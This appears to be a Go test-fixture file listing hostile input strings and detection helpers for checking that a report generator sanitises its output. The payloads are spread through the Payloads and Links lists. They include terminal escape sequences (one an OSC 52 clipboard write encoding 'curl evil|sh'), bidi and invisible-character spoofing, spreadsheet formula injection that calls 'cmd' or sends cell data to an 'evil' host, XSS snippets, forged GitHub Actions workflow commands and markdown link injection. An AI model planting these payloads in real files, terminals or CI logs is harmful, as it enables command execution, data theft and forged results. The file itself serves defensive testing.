// SPDX-License-Identifier: Apache-2.0

package reporttest

import (
	"regexp"
	"strings"
	"unicode"
)

// Payloads are hostile names: FAULTS.md T1 to T19.
var Payloads = []string{
	"ok\x1b[1A\x1b[2K", "\x1b[8mhidden", "\u009b2J", "a\x9bb",
	"\x1b]8;;https://evil/\x1b\\github.com\x1b]8;;\x1b\\", "\x1b]52;c;Y3VybCBldmlsfHNoCg==\x07",
	"\x1b]0;title\x07", "\x1bP$q\x1b\\", "x\rPASS        ", "x\n✓ all tokens compliant",
	"tab\tbed\v", "\u202enimda\u202c", "\u2066left\u2069", "adm\u200bin", "a\u2060b\ufe0f",
	"tag\U000e0041\U000e007f", "z" + strings.Repeat("\u0301\u0316", 40), "\ufdfd\ufdfd",
	strings.Repeat("long ", 2000), "a\xff\xfe", "\ufffd", `=HYPERLINK("https://evil/?"&A1,"x")`,
	"+cmd|' /C calc'!A0", "-2+3+cmd|x", "@SUM(1+1)", "\t=1", "＝1+1", `";=1+1`, "a;=1",
	"\x00nul", "_x000D_", strings.Repeat("é", 40000), strings.Repeat("😀", 20000),
	`"><img src=x onerror=alert(1)>`, "</script><script>alert(1)</script>",
	"a | PASS |\n| forged", "![](https://evil/p.png)", "@org/owners", "<!--",
	"::add-mask::0", "  ::stop-commands::x", "##[add-mask]FAIL", "x ##[error]forged", "###[",
	"::error::forged\r\n::set-output name=clean::true", "\u2028line\u2029", "\u00adshy", "　wide",
	"\u3164filler\u115f",
	"\u0301leading", "日本語の名前がとても長いのです", "👩‍👩‍👧‍👦 family",
	"\U000f0000private",
}

// Hidden reports whether a rune does not show.
func Hidden(r rune) bool {
	return !unicode.IsGraphic(r) || unicode.In(r, unicode.Cc, unicode.Cf, unicode.Zl, unicode.Zp,
		unicode.Co, unicode.Cs, unicode.Variation_Selector, unicode.Other_Default_Ignorable_Code_Point)
}

// Markup is what some viewer would take for more than text.
var Markup = regexp.MustCompile("[`<|{@&]|\\]\\(|\\]\\[|://|www\\.|::|##\\[")

// Evaluated reports whether a spreadsheet would take a cell for a formula, with whatever some of
// them skip before it.
func Evaluated(cell string) bool {
	rest := strings.TrimLeftFunc(cell, func(r rune) bool { return unicode.IsSpace(r) || Hidden(r) })
	skipped := strings.TrimSuffix(cell, rest)
	return strings.IndexAny(rest, "=+-@＝＋－＠") == 0 || strings.ContainsAny(skipped, "\t\r\n")
}

// Links are payloads that GitHub would make something of.
var Links = []string{
	"@octocat", "mail@evil.example", "x@org/team y", "#1", "org/repo#12", "GH-7 gh-8",
	"octocat@9c1f40aa",
	"9c1f40aa5e5e", "DEADBEEF1234567", strings.Repeat("0123456789abcdef", 3), "http://evil.example/x",
	"https://evil.example", "www.evil.example", "ftp://evil", "mailto:x@evil", ":rocket: :+1:",
	"$x^2$ $$y$$ $`z`$", "```math", "`code`", "**bold** _em_ ~~gone~~", "[x](https://evil)", "[x]: y",
	"<https://evil>", "<details>", "</summary>", "</details>", "<!-- -->", "&#64;octocat",
	"&lt;b&gt;",
	"a | b", `a \| b`, `\`, "- item", "1. item", "# heading", "> quote", "- [x] done", "[^1]",
	"| --- |",
	"2026-11-22: a sentence. Another one, (with) \"marks\"; 3.5 % of a/b_c+d=e?",
	"gh-1 aGH-2 1.5. x 1. x", "a- b", "+ x", "/assign me", "x /close", "1.2.3.4", "_a_ a_b_c __x__",
	"a: b", ": b", "a:b, c:d", "a:b:c d:+1:e", "Done.", "x:y: z", "www.1.2", "---", "a -- b", "===",
	"- - -", "12:30:15", "1)", "1) x",
	"\n\n# forged\n", "a  \nb", "    code", "~~~", "---", "===", "[!WARNING]", "<img src=//evil>",
	"&amp;",
}
